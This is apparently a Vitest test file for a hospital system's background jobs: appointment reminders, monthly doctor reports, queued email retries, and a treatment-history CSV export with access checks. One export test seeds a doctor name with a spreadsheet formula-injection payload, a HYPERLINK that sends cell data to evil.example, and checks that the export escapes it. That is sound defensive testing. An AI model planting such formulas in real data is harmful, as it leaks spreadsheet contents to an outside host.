import type PgBoss from "pg-boss";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { MailConfig } from "@/lib/notifications/mail";
import { queueEmail } from "@/lib/notifications/mail";
import { clock } from "@/lib/server/clock";
import { createDb, db } from "@/lib/server/db";
import { AppError } from "@/lib/server/errors";
import type { Ctx } from "@/lib/server/session";
import { seedPatient, seedUser } from "@/prisma/builders";
import { resetDatabase } from "@/tests/reset";
import { startCaptureSmtp } from "@/tests/smtp";
import { downloadExport, getExport, requestExport, runExport } from "./exports";
import { startQueue } from "./queue";
import { sendDueReminders } from "./reminders";
import { sendMonthlyReports } from "./reports";
import { startWorkers } from "./worker";

const PW = "Test-pass-2026";
const NOW = new Date("2026-11-22T08:00:00Z");
const hours = (h: number) => new Date(NOW.getTime() + h * 3600_000);
const ctxOf = (u: { id: string; role: string; name: string; email: string }): Ctx => ({
  actor: u as Ctx["actor"],
  ip: "127.0.0.1",
});
const invitation = {
  name: "Rose",
  role: "DOCTOR" as const,
  url: "http://localhost:3000/set-password/abc",
  expiresInHours: 72,
};

let smtp: Awaited<ReturnType<typeof startCaptureSmtp>>;
let mail: MailConfig;
beforeAll(async () => {
  smtp = await startCaptureSmtp();
  mail = { smtpUrl: smtp.url, from: "desk@hospital.test", hospitalName: "Test Hospital" };
});
afterAll(() => smtp.close());
beforeEach(async () => {
  await resetDatabase();
  smtp.mails.length = 0;
  vi.restoreAllMocks();
  vi.spyOn(clock, "now").mockReturnValue(NOW);
});

async function world() {
  const doctor = await seedUser(db(), { email: "d@h.org", name: "Dr Heart", role: "DOCTOR", password: PW });
  const nurse = await seedUser(db(), { email: "n@h.org", name: "Nurse Joy", role: "NURSE", password: PW });
  const records = await seedUser(db(), { email: "r@h.org", name: "Records", role: "RECORDS_OFFICER", password: PW });
  const pu = await seedUser(db(), { email: "amara@h.org", name: "Amara Bello", role: "PATIENT", password: PW });
  const other = await seedUser(db(), { email: "other@h.org", name: "Other Patient", role: "PATIENT", password: PW });
  const patient = await seedPatient(db(), {
    firstName: "Amara",
    lastName: "Bello",
    dateOfBirth: "1990-01-01",
    sex: "female",
    email: "amara@h.org",
    userId: pu.id,
  });
  await seedPatient(db(), {
    firstName: "Otto",
    lastName: "Other",
    dateOfBirth: "1980-01-01",
    sex: "male",
    userId: other.id,
  });
  const appt = (startsAt: Date, status: "BOOKED" | "CANCELLED" = "BOOKED", reminderSentAt: Date | null = null) =>
    db().appointment.create({
      data: {
        patientId: patient.id,
        doctorId: doctor.id,
        startsAt,
        endsAt: new Date(startsAt.getTime() + 30 * 60_000),
        status,
        reminderSentAt,
      },
    });
  return { doctor, nurse, records, pu, other, patient, appt };
}

describe("appointment reminders", () => {
  it("reminds each due appointment exactly once across two workers running at once", async () => {
    const w = await world();
    const due = [await w.appt(hours(20)), await w.appt(hours(22))];
    const a = createDb(process.env.DATABASE_URL!);
    const b = createDb(process.env.DATABASE_URL!);
    try {
      const [r1, r2] = await Promise.all([sendDueReminders(a, mail), sendDueReminders(b, mail)]);
      expect([...r1.reminded, ...r2.reminded].sort()).toEqual(due.map((d) => d.id).sort());
    } finally {
      await Promise.all([a.$disconnect(), b.$disconnect()]);
    }
    // A third run later finds nothing left to do.
    expect((await sendDueReminders(db(), mail)).reminded).toEqual([]);
    const emails = await db().outboxEmail.findMany({ where: { to: "amara@h.org" } });
    expect(emails).toHaveLength(2);
    expect(
      emails.every((e) => e.status === "SENT" && e.subject.startsWith("Reminder: your appointment tomorrow")),
    ).toBe(true);
    expect(smtp.mails).toHaveLength(2);
    expect(smtp.mails[0].text).toContain("Dr Heart");
    expect(await db().notification.count({ where: { userId: w.pu.id, title: "Appointment tomorrow" } })).toBe(2);
    for (const d of due)
      expect((await db().appointment.findUniqueOrThrow({ where: { id: d.id } })).reminderSentAt).toEqual(NOW);
  });

  it("skips cancelled, already reminded, past and not-yet-due appointments", async () => {
    const w = await world();
    await w.appt(hours(10), "CANCELLED");
    await w.appt(hours(12), "BOOKED", hours(-30));
    await w.appt(hours(-2));
    await w.appt(hours(30));
    expect((await sendDueReminders(db(), mail)).reminded).toEqual([]);
    expect(await db().outboxEmail.count()).toBe(0);
    expect(await db().notification.count()).toBe(0);
  });
});

describe("monthly doctor report", () => {
  it("emails each active doctor once for the previous month, whoever runs it", async () => {
    const w = await world();
    await seedUser(db(), { email: "gone@h.org", name: "Dr Gone", role: "DOCTOR", password: PW, active: false });
    await w.appt(new Date("2026-10-05T09:00:00Z"));
    await w.appt(new Date("2026-10-06T09:00:00Z"), "CANCELLED");
    await w.appt(new Date("2026-11-05T09:00:00Z"));
    // Billed in the doctor's name: 45.00 in October counts; a void invoice and November's do not.
    const invoice = (issuedAt: string, amount: number, status: "OPEN" | "VOID" = "OPEN") =>
      db().invoice.create({
        data: {
          patientId: w.patient.id,
          currency: "USD",
          status,
          issuedAt: new Date(issuedAt),
          createdById: w.records.id,
          lines: {
            create: [
              {
                kind: "CONSULTATION",
                description: "Consultation",
                quantity: 1,
                unitAmount: amount,
                amount,
                doctorId: w.doctor.id,
              },
            ],
          },
        },
      });
    await invoice("2026-10-07T10:00:00Z", 4500);
    await invoice("2026-10-08T10:00:00Z", 9900, "VOID");
    await invoice("2026-11-02T10:00:00Z", 7000);
    const [a, b] = await Promise.all([
      sendMonthlyReports(db(), undefined, mail),
      sendMonthlyReports(db(), undefined, mail),
    ]);
    expect(a.sent + b.sent).toBe(1);
    expect(await db().doctorReport.findMany({ select: { doctorId: true, month: true } })).toEqual([
      { doctorId: w.doctor.id, month: "2026-10" },
    ]);
    expect(smtp.mails).toHaveLength(1);
    expect(smtp.mails[0]).toMatchObject({ to: ["d@h.org"], subject: "Your activity in October 2026 — Test Hospital" });
    expect(smtp.mails[0].text).toContain("Appointments booked: 1");
    expect(smtp.mails[0].text).toContain("Appointments cancelled: 1");
    expect(smtp.mails[0].text).toContain("Appointments in all: 2");
    expect(smtp.mails[0].text).toContain("Revenue billed: $45.00");
    expect((await sendMonthlyReports(db(), "2026-10", mail)).sent).toBe(0);
  });
});

describe("treatment-history export", () => {
  it("builds the CSV page by page up to progress 1, readable by its requester only", async () => {
    const w = await world();
    for (let i = 0; i < 7; i++) await w.appt(new Date(Date.UTC(2026, 5, 1 + i, 9)), "CANCELLED");
    const me = ctxOf(w.pu);
    const { id } = await requestExport(db(), me, { kind: "treatment-history" });
    expect(await getExport(db(), me, id)).toMatchObject({ status: "queued", progress: 0 });
    expect(await db().auditEvent.count({ where: { action: "EXPORT", entityId: id, patientId: w.patient.id } })).toBe(1);

    const seen: number[] = [];
    await runExport(db(), id, { pageSize: 3, onProgress: (p) => seen.push(p) });
    expect(seen.length).toBeGreaterThanOrEqual(3);
    expect(seen).toEqual([...seen].sort((x, y) => x - y));
    expect(seen.at(-1)).toBe(1);
    const done = await getExport(db(), me, id);
    expect(done).toMatchObject({ status: "done", progress: 1, downloadUrl: `/api/v1/exports/${id}/download` });

    const file = await downloadExport(db(), me, id);
    const lines = Buffer.from(file.content).toString("utf8").trim().split("\n");
    // Headed and worded for a person, each time to the second in the hospital's time zone.
    expect(lines[0]).toBe("Date and time,Kind,Summary,Flag,Reference");
    expect(lines).toHaveLength(1 + 1 + 7); // header, registration, seven appointments
    expect(lines.filter((l) => l.includes(",Registration,Registered as "))).toHaveLength(1);
    expect(lines.filter((l) => l.includes(",Appointment,Dr Heart · Cancelled"))).toHaveLength(7);
    for (const l of lines.slice(1)) expect(l).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2}),/);
    expect(file.filename).toMatch(/^treatment-history-.+\.csv$/);

    for (const stranger of [w.other, w.nurse]) {
      await expect(getExport(db(), ctxOf(stranger), id)).rejects.toMatchObject({ code: "NOT_FOUND" });
      await expect(downloadExport(db(), ctxOf(stranger), id)).rejects.toMatchObject({ code: "NOT_FOUND" });
    }
  });

  it("writes a file a spreadsheet opens safely: the byte order mark, °C as UTF-8, a formula someone typed as text", async () => {
    const w = await world();
    // A doctor's name as an admin typed it leads the summary of their appointments.
    const evil = await seedUser(db(), {
      email: "evil@h.org",
      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      role: "DOCTOR",
      password: PW,
    });
    await db().appointment.create({
      data: {
        patientId: w.patient.id,
        doctorId: evil.id,
        startsAt: new Date("2026-06-01T09:00:00Z"),
        endsAt: new Date("2026-06-01T09:30:00Z"),
        status: "COMPLETED",
      },
    });
    await db().vitalSign.create({
      data: {
        patientId: w.patient.id,
        recordedById: w.nurse.id,
        takenAt: new Date("2026-06-01T09:10:00Z"),
        temperatureC: 39.1,
        lockedAt: NOW,
      },
    });
    const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
    await runExport(db(), id);
    const bytes = Buffer.from((await downloadExport(db(), ctxOf(w.nurse), id)).content);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
    expect(lines.find((l) => l.includes(",Appointment,"))).toMatch(
      /^[^,]+,Appointment,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Open""\) · Completed",,\w+$/,
    );
    // A fever is flagged in the summary and in the flag column, as the chart's timeline shows it.
    expect(lines.find((l) => l.includes(",Vitals,"))).toMatch(/,Vitals,T 39\.1 °C · High: T,HIGH,\w+$/);
  });

  it("lets staff with chart access export any patient, and no one else", async () => {
    const w = await world();
    const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
    await runExport(db(), id);
    expect(await getExport(db(), ctxOf(w.nurse), id)).toMatchObject({ status: "done", progress: 1 });
    await expect(
      requestExport(db(), ctxOf(w.records), { kind: "treatment-history", patientId: w.patient.id }),
    ).rejects.toMatchObject({ code: "FORBIDDEN" });
  });

  it("writes the CSV header, the kinds and the summaries in the requester's language", async () => {
    const w = await world();
    await db().user.update({ where: { id: w.nurse.id }, data: { language: "fr" } });
    const { id } = await requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history", patientId: w.patient.id });
    await runExport(db(), id);
    const file = await downloadExport(db(), ctxOf(w.nurse), id);
    const text = Buffer.from(file.content).toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = text.slice(1).trimEnd().split("\n");
    expect(header).toBe("Date et heure,Type,Résumé,Alerte,Référence");
    expect(rows.some((l) => l.includes(",Enregistrement,"))).toBe(true);
    await expect(requestExport(db(), ctxOf(w.nurse), { kind: "treatment-history" })).rejects.toBeInstanceOf(AppError);
    await expect(
      requestExport(db(), ctxOf(w.other), { kind: "treatment-history", patientId: w.patient.id }),
    ).rejects.toMatchObject({ code: "NOT_FOUND" });
  });
});

describe("email delivery through the queue", () => {
  let boss: PgBoss;
  afterAll(() => boss?.stop({ graceful: false, wait: true }));

  async function finished(name: string, id: string, timeoutMs = 25_000) {
    const until = Date.now() + timeoutMs;
    for (;;) {
      const job = await boss.getJobById(name, id);
      if (job && (job.state === "completed" || job.state === "failed")) return job;
      if (Date.now() > until) throw new Error(`job ${id} still ${job?.state}`);
      await new Promise((r) => setTimeout(r, 250));
    }
  }

  it("sends an outbox email (SENT), and retries a failing SMTP with backoff before marking it FAILED", async () => {
    vi.restoreAllMocks();
    boss = await startQueue(process.env.DATABASE_URL!, { work: true });
    await startWorkers(boss, db(), { schedules: false, pollingIntervalSeconds: 0.5, mail });

    const ok = await queueEmail(
      db(),
      { to: "rose@example.org", locale: "en", template: "invitation", data: invitation },
      mail,
    );
    const okJob = (await boss.send("email.send", { emailId: ok }))!;
    expect((await finished("email.send", okJob)).state).toBe("completed");
    expect(await db().outboxEmail.findUniqueOrThrow({ where: { id: ok } })).toMatchObject({
      status: "SENT",
      error: null,
    });
    expect(smtp.mails.map((m) => m.to)).toEqual([["rose@example.org"]]);

    // A second queue whose worker reaches a closed port: every attempt fails, with growing delays.
    const failing = await startQueue(process.env.DATABASE_URL!, { work: true });
    try {
      await boss.offWork("email.send");
      await startWorkers(failing, db(), {
        schedules: false,
        pollingIntervalSeconds: 0.5,
        mail: { ...mail, smtpUrl: "smtp://127.0.0.1:1" },
      });
      const bad = await queueEmail(
        db(),
        { to: "nobody@example.org", locale: "en", template: "invitation", data: invitation },
        mail,
      );
      const badJob = (await failing.send(
        "email.send",
        { emailId: bad },
        { retryLimit: 2, retryDelay: 1, retryBackoff: true },
      ))!;
      const job = await finished("email.send", badJob);
      expect(job).toMatchObject({ state: "failed", retryCount: 2, retryLimit: 2, retryBackoff: true });
      const row = await db().outboxEmail.findUniqueOrThrow({ where: { id: bad } });
      expect(row.status).toBe("FAILED");
      expect(row.error).toMatch(/ECONNREFUSED|connect/i);
      expect(smtp.mails).toHaveLength(1);
    } finally {
      await failing.stop({ graceful: false, wait: true });
    }
  });
});
